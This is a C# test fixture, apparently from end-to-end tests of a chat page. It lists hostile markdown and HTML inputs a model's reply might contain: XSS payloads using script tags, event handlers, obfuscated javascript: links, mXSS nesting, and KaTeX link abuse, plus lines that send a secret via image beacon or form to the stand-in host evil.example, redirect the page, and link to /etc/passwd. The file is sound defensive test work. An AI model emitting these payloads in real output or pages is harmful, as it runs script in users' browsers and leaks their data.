namespace Sputnik.EndToEnd.Tests.Page;

/// <summary>What a model could write to run a script, to load a picture from elsewhere or to cover the page.</summary>
internal static class HostileMarkdown
{
    public static string[] All =>
    [
        "<script>window.hit=1</script>\n\n",
        "<img src=x onerror=window.hit=1>\n\n",
        "<kbd><img src=x onerror=window.hit=1 \n\n",
        "<code><script>window.hit=1</script>\n\n",
        "<svg onload=window.hit=1><animate onbegin=window.hit=1></svg>\n\n",
        "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>\n\n",
        "<a href=\"javascript:window.hit=1\">raw</a>\n\n",
        "<style>body{display:none}</style>\n\n",
        "<div style=\"position:fixed;inset:0;background:red\">over</div>\n\n",
        "<form action=https://evil.example><input name=key><button>Go</button></form>\n\n",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1></style></mglyph></table></mtext></math>\n\n",
        "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>\n\n",
        "<!--><img src=x onerror=window.hit=1>-->\n\n",
        "![beacon](https://evil.example/pixel.png?q=secret)\n\n",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)\n\n",
        "![\"onerror=window.hit=1](x\"onerror=window.hit=1)\n\n",
        "[js](javascript:window.hit=1) [JS](JaVaScRiPt:window.hit=1) [tab](java\tscript:window.hit=1)\n\n",
        "[entity](&#106;avascript:window.hit=1) [hex](&#x6A;avascript&colon;window.hit=1)\n\n",
        "[data](data:text/html,<script>window.hit=1</script>) [vb](vbscript:msgbox) [file](file:///etc/passwd) [blob](blob:null/1)\n\n",
        "[same](/v1/models) [protocol](//evil.example) [title](https://example.org \"x\\\" onmouseover=window.hit=1\")\n\n",
        "<javascript:window.hit=1> <https://example.org/\"onmouseover=window.hit=1>\n\n",
        "[ref]: javascript:window.hit=1\n\n[ref] and [a][ref]\n\n",
        "```\"><img src=x onerror=window.hit=1>\ncode\n```\n\n",
        "```html\n<img src=x onerror=window.hit=1><script>window.hit=1</script>\n```\n\n",
        "`<img src=x onerror=window.hit=1>`\n\n",
        "$\\href{javascript:window.hit=1}{x}$ $\\url{javascript:window.hit=1}$ $\\includegraphics{https://evil.example/p.png}$\n\n",
        "$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlData{x=1}{y}$ $\\htmlClass{veil}{z}$ $\\htmlId{live}{w}$\n\n",
        "$\\rule{9999em}{9999em}$ $$\\def\\a{\\a\\a}\\a$$\n\n",
        "$<img src=x onerror=window.hit=1>$ $$</span><script>window.hit=1</script>$$\n\n",
        "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| <script>window.hit=1</script> | [x](javascript:window.hit=1) |\n\n",
        "- [x] <input autofocus onfocus=window.hit=1>\n\n",
        "# <h1 id=main onclick=window.hit=1>title</h1>\n\n",
        "</div></article></main><dialog open>Your key?</dialog>\n\n",
        "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\"></noscript>\n\n",
        "\0<scr\0ipt>window.hit=1</scr\0ipt>\n\n",
    ];
}
